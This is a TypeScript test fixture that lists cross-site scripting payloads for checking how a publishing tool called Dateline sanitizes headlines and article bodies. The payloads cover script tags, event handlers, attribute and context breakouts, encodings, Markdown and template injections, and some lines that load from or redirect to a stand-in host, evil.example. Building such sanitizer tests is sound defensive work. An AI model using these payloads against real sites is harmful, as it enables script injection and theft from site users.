/** Marks a script that ran: every payload calls it, and the test defines it in each page. */
export const alarm = 'pwned()';

/**
 * Ways in which text has become script on other sites, in our own words. Each fits a headline (at most 110
 * characters). The classes are from the OWASP cheat sheet:
 * https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
 */
export const payloads: readonly string[] = [
  // Elements.
  `<script>${alarm}</script>`,
  `</script><script>${alarm}</script>`,
  `</title><script>${alarm}</script>`,
  `</style><script>${alarm}</script>`,
  `<ScRiPt >${alarm}</ScRiPt >`,
  `<scr<script>ipt>${alarm}</scr</script>ipt>`,
  `<img src=x onerror=${alarm}>`,
  `<img src=x onerror=${alarm} //`,
  `<svg onload=${alarm}>`,
  `<svg/onload=${alarm}//`,
  `<svg><script>${alarm}</script></svg>`,
  `<svg><animate onbegin=${alarm} attributeName=x dur=1s>`,
  `<math><mtext></mtext><script>${alarm}</script></math>`,
  `<body onload=${alarm}>`,
  `<iframe srcdoc="<script>parent.${alarm}</script>">`,
  `<iframe src=javascript:parent.${alarm}>`,
  `<object data=javascript:${alarm}></object>`,
  `<embed src=javascript:${alarm}>`,
  `<details open ontoggle=${alarm}>`,
  `<video><source onerror=${alarm}></video>`,
  `<input autofocus onfocus=${alarm}>`,
  `<marquee onstart=${alarm}>x</marquee>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<form action=//evil.example/><button autofocus>x</form>`,
  `<template><script>${alarm}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${alarm}>">`,
  `<!--><script>${alarm}</script-->`,
  `<![CDATA[><script>${alarm}</script>]]>`,
  // Out of an attribute.
  `" onmouseover="${alarm}" autofocus onfocus="${alarm}" x="`,
  `' onfocus='${alarm}' autofocus tabindex=1 x='`,
  `"><script>${alarm}</script>`,
  `'><img src=x onerror=${alarm}>`,
  `\`onload=${alarm} x=\``,
  `x style=animation-name:x onanimationstart=${alarm}`,
  // Out of JSON-LD, CSS, a comment, a URL.
  `\u2028</script><script>${alarm}</script>`,
  `"}]}</script><script>${alarm}</script>`,
  `\\u003c/script\\u003e\\u003cscript\\u003e${alarm}`,
  `--><script>${alarm}</script><!--`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">${alarm}</script>`,
  `*/}</style><img src=x onerror=${alarm}>`,
  `javascript:${alarm}`,
  `java\tscript:${alarm}`,
  `data:text/html,<script>parent.${alarm}</script>`,
  // Entities and encodings.
  `&lt;script&gt;${alarm}&lt;/script&gt;`,
  `&#60;script&#62;${alarm}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${alarm}&#x3e;`,
  `%3Cscript%3E${alarm}%3C/script%3E`,
  `+ADw-script+AD4-${alarm}+ADw-/script+AD4-`,
  `\u{ff1c}script\u{ff1e}${alarm}\u{ff1c}/script\u{ff1e}`,
  // Markdown and Dateline's own markup.
  `[x](javascript:${alarm})`,
  `[x](JaVaScRiPt&#58;${alarm})`,
  `[x](data:text/html,x "onclick=${alarm}")`,
  `![x" onerror="${alarm}](/media/quay.png)`,
  `<javascript:${alarm}>`,
  `[[<img src=x onerror=${alarm}>]]`,
  `[[Port Esker|<img src=x onerror=${alarm}>]]`,
  `:figure[<img src=x onerror=${alarm}>]{#waiting}`,
  // Code that template engines run.
  `{{constructor.constructor('${alarm}')()}}`,
  `\${${alarm}}`,
  `<%= ${alarm} %>`,
  `{% raw %}<script>${alarm}</script>{% endraw %}`,
  `#{${alarm}}`,
];

/** Texts that may be a whole body, but are refused or harmless as one line. */
export const bodies: readonly string[] = [
  `<div>\n<script>${alarm}</script>\n</div>`,
  `[x]: javascript:${alarm}\n\n[x]`,
  `[^1]\n\n[^1]: <img src=x onerror=${alarm}>`,
  `:::quote{by="<img src=x onerror=${alarm}>" onclick="${alarm}"}\nx\n:::`,
  `~~~html" onmouseover="${alarm}\n<script>${alarm}</script>\n~~~`,
  `| a |\n|---|\n| <img src=x onerror=${alarm}> |`,
  `# <img src=x onerror=${alarm}>`,
  `- [x] <input autofocus onfocus=${alarm}>`,
  `a {onclick=${alarm}} :a[b]{onclick="${alarm}" style="x"}`,
];
